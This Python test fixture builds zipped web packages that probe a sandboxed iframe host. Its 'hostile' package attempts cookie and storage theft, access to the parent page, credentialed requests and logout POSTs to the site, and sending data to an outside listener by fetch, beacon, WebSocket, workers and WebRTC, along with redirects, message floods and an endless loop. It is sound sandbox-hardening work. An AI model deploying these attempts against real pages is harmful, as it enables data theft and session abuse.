"""A package that tries everything a sandbox has to forbid, and says what came of each attempt.

{site} is the address of the toolbox, {outside} that of a listener, {other} that of another
package. Each attempt ends in a word: "failed" where it was stopped, "succeeded" where it was not.
"""

from tests.stage.packages import zipped

PAGE = """<!doctype html>
<html lang="de"><head><meta charset="utf-8"><title>Böses Paket</title>
<link rel="prefetch" href="{outside}/prefetch">
<link rel="stylesheet" href="{outside}/style">
<script src="{outside}/script"></script>
</head><body>
<h1>Böses Paket</h1>
<img src="{outside}/image" alt="">
<img src="{site}/static/unbekannt.png" alt="">
<video src="{outside}/video"></video>
<object data="{outside}/object"></object>
<iframe src="{outside}/frame" title="a"></iframe>
<iframe src="{site}/konto/anmelden" title="b"></iframe>
<iframe title="c" src="data:text/html,<script>fetch('{outside}/data')</script>"></iframe>
<iframe title="d" srcdoc="<script>fetch('{outside}/srcdoc',{{mode:'no-cors'}})</script>"></iframe>
<form id="post" method="post" action="{outside}/form"></form>
<form id="login" method="post" action="{site}/konto/abmelden" target="_top"></form>
<a id="top" href="{outside}/top" target="_top">t</a>
<a id="blank" href="{outside}/blank" target="_blank">b</a>
<a id="ping" href="#" ping="{outside}/ping">p</a>
<script src="versuche.js"></script>
</body></html>
"""

ATTEMPTS = """
const site = "{site}", outside = "{outside}", other = "{other}";
const results = {{}};
const real = (object, name) => Object.getOwnPropertyDescriptor(object, name);
const tried = async (name, attempt) => {{
  try {{
    results[name] = (await within(3000, Promise.resolve(attempt()))) ? "succeeded" : "failed";
  }} catch {{
    results[name] = "failed";
  }}
}};
const reached = (address, options) => fetch(address, options).then(() => true);
const within = (milliseconds, promise) =>
  Promise.race([promise, new Promise((_, no) => setTimeout(no, milliseconds))]);

const attempts = {{
  "read the cookies": () => real(Document.prototype, "cookie").get.call(document) !== undefined,
  "write a cookie": () => {{
    real(Document.prototype, "cookie").set.call(document, "a=b");
    return true;
  }},
  "read cookies by cookieStore": () => cookieStore.getAll().then(() => true),
  "read the page around": () => parent.document.title !== undefined,
  "read the top page": () => top.document.title !== undefined,
  "read the storage of the site": () => parent.localStorage.length >= 0,
  "read the real storage": () => {{
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return frame.contentWindow.localStorage.length >= 0;
  }},
  "open a database": () => within(1000, new Promise((yes, no) => {{
    const asked = indexedDB.open("a");
    asked.onsuccess = () => yes(true);
    asked.onerror = no;
  }})),
  "set up a service worker": () => navigator.serviceWorker.register("versuche.js").then(() => true),
  "run script in the page around": () => {{ parent.eval("1"); return true; }},
  "change the frame": () => {{ frameElement.removeAttribute("sandbox"); return true; }},
  "fetch from the site": () => reached(`${{site}}/konto`, {{ credentials: "include" }}),
  "fetch from the site without CORS": () =>
    reached(`${{site}}/konto`, {{ credentials: "include", mode: "no-cors" }}),
  "post to the site": () =>
    reached(`${{site}}/konto/abmelden`, {{ method: "POST", mode: "no-cors" }}),
  "read another package": () => reached(`${{other}}index.html`),
  "read above the package": () => reached(new URL("../", location.href)),
  "fetch from outside": () => reached(`${{outside}}/fetch`, {{ mode: "no-cors" }}),
  "ask by XMLHttpRequest": () => within(1000, new Promise((yes, no) => {{
    const asked = new XMLHttpRequest();
    asked.open("GET", `${{outside}}/xhr`);
    asked.onload = () => yes(true);
    asked.onerror = no;
    asked.send();
  }})),
  "send a beacon": async () => {{
    const blocked = new Promise((yes) =>
      document.addEventListener("securitypolicyviolation", ({{ blockedURI }}) =>
        blockedURI === `${{outside}}/beacon` && yes()));
    const sent = navigator.sendBeacon(`${{outside}}/beacon`, "geheim");
    return sent && within(2500, blocked).then(() => false, () => true);
  }},
  "open a WebSocket": () => within(1000, new Promise((yes, no) => {{
    const socket = new WebSocket(outside.replace("http", "ws") + "/socket");
    socket.onopen = () => yes(true);
    socket.onerror = no;
  }})),
  "listen to events": () => within(1000, new Promise((yes, no) => {{
    const source = new EventSource(`${{outside}}/events`);
    source.onopen = () => yes(true);
    source.onerror = no;
  }})),
  "import from outside": () => import(`${{outside}}/module`).then(() => true),
  "start a worker from outside": () => within(1000, new Promise((yes, no) => {{
    const worker = new Worker(`${{outside}}/worker`);
    worker.onmessage = yes;
    worker.onerror = no;
  }})),
  "fetch in a worker": () => within(2000, new Promise((yes, no) => {{
    const code = `fetch("${{outside}}/in-worker", {{mode: "no-cors"}})
      .then(() => postMessage(1), () => postMessage(0))`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = (event) => yes(Boolean(event.data));
    worker.onerror = no;
  }})),
  "call by WebRTC": async () => {{
    const line = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:{stun}" }}] }});
    line.createDataChannel("a");
    await line.setLocalDescription(await line.createOffer());
    await new Promise((yes) => setTimeout(yes, 800));
    return /typ (srflx|relay)/.test(line.localDescription?.sdp ?? "");
  }},
  "open a window": () => {{
    const open = real(window.constructor.prototype, "open")?.value ?? window.open;
    return Boolean(open.call(window, "about:blank"));
  }},
  "open a window from a fresh frame": () => {{
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return Boolean(frame.contentWindow.open("about:blank"));
  }},
  "lead the whole window away": () => {{ top.location.href = `${{outside}}/away`; return true; }},
  "lead the page around away": () => {{
    parent.location.replace(`${{outside}}/away2`);
    return true;
  }},
  "take the full screen": () => within(1000, document.body.requestFullscreen().then(() => true)),
  "ask where one is": () => within(1000, new Promise((yes, no) =>
    navigator.geolocation.getCurrentPosition(() => yes(true), no))),
  "listen to the microphone": () =>
    within(1000, navigator.mediaDevices.getUserMedia({{ audio: true }}).then(() => true)),
  "read the clipboard": () => within(1000, navigator.clipboard.readText().then(() => true)),
}};

(async () => {{
  for (const [name, attempt] of Object.entries(attempts)) await tried(name, attempt);
  for (const id of ["top", "blank", "ping"]) document.getElementById(id).click();
  for (const id of ["post", "login"]) document.getElementById(id).submit();
  for (let i = 0; i < 5000; i += 1) {{
    parent.postMessage({{ toolbox: 1, verb: "answered", key: `k${{i}}`, value: i }}, "*");
  }}
  parent.postMessage({{ toolbox: 1, verb: "stored", store: {{ a: "x".repeat(5_000_000) }} }}, "*");
  parent.postMessage({{ hostile: results }}, "*");
}})();
"""

LOOP = """<!doctype html><html lang="de"><title>Endlos</title><h1>Endlos</h1>
<script>setTimeout(() => {
  parent.postMessage({ hostile: "loops soon" }, "*");
  setTimeout(() => { for (;;); }, 50);
}, 250);</script></html>
"""

WANDERER = """<!doctype html><html lang="de"><title>Fort</title><h1>Fort</h1>
<script>setTimeout(() => {{ location.href = "{to}"; }}, 200);</script></html>
"""


def hostile(*, site: str, outside: str, other: str, stun: str) -> bytes:
    """The package that tries everything at once."""
    names = {"site": site, "outside": outside, "other": other, "stun": stun}
    return zipped({"index.html": PAGE.format(**names), "versuche.js": ATTEMPTS.format(**names)})


def endless() -> bytes:
    """A package that never gives the processor back."""
    return zipped({"index.html": LOOP})


def wanderer(to: str) -> bytes:
    """A package that leads its own frame elsewhere."""
    return zipped({"index.html": WANDERER.format(to=to)})


def crowd(files: int) -> bytes:
    """A package of very many files."""
    return zipped({"index.html": "<h1>Viele</h1>", **{f"{n}.txt": str(n) for n in range(files)}})
